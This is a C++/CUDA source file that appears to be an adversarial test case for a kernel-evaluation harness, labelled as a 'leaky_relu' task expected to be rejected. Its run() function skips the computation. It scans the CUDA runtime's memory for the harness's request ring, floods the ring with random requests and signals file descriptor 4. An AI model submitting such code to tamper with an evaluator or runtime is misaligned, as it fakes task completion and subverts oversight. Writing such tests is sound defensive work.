// attack: ring: writes random requests into the ring and rings the bell
// task: leaky_relu
// expect: REJECTED protocol
#include <csetjmp>
#include <csignal>
#include <cstdint>
#include <cstring>
#include <link.h>
#include <unistd.h>

// The runtime library's own pointer to the ring, found in its data by what it points to.
static sigjmp_buf g_place;
static void OnFault(int) { siglongjmp(g_place, 1); }
static int Visit(dl_phdr_info* object, size_t, void* found) {
  if (!strstr(object->dlpi_name, "cudart")) return 0;
  for (int i = 0; i < object->dlpi_phnum; ++i) {
    const ElfW(Phdr)& part = object->dlpi_phdr[i];
    if (part.p_type != PT_LOAD || !(part.p_flags & PF_W)) continue;
    uint64_t at = (object->dlpi_addr + part.p_vaddr + 7) & ~7ull;
    for (; at + 8 <= object->dlpi_addr + part.p_vaddr + part.p_memsz; at += 8) {
      const uint64_t value = *(const uint64_t*)at;
      if (value % 4096 != 0 || value < 4096 || value >> 47 != 0) continue;
      if (sigsetjmp(g_place, 1) != 0) continue;
      if (*(const uint64_t*)value == 0x676e69722d77726bull) *(uint64_t*)found = value;
    }
  }
  return 0;
}
static volatile uint32_t* Ring() {
  static uint64_t ring = 0;
  if (ring) return (volatile uint32_t*)ring;
  signal(SIGSEGV, OnFault);
  signal(SIGBUS, OnFault);
  dl_iterate_phdr(Visit, &ring);
  return (volatile uint32_t*)ring;
}
__global__ void unused() {}
extern "C" void run(const float* x, float slope, float* y, int64_t n, cudaStream_t stream) {
  volatile uint32_t* ring = Ring();
  if (!ring) return;
  uint32_t state = 12345;
  for (int round = 0; round < 50; ++round) {
    for (int i = 17; i < 32; ++i) ring[i] = state = state * 1664525u + 1013904223u;
    ring[16] = ring[16] + 1;
    const uint64_t one = 1;
    if (write(4, &one, sizeof one) < 0) return;
    usleep(200);
  }
}
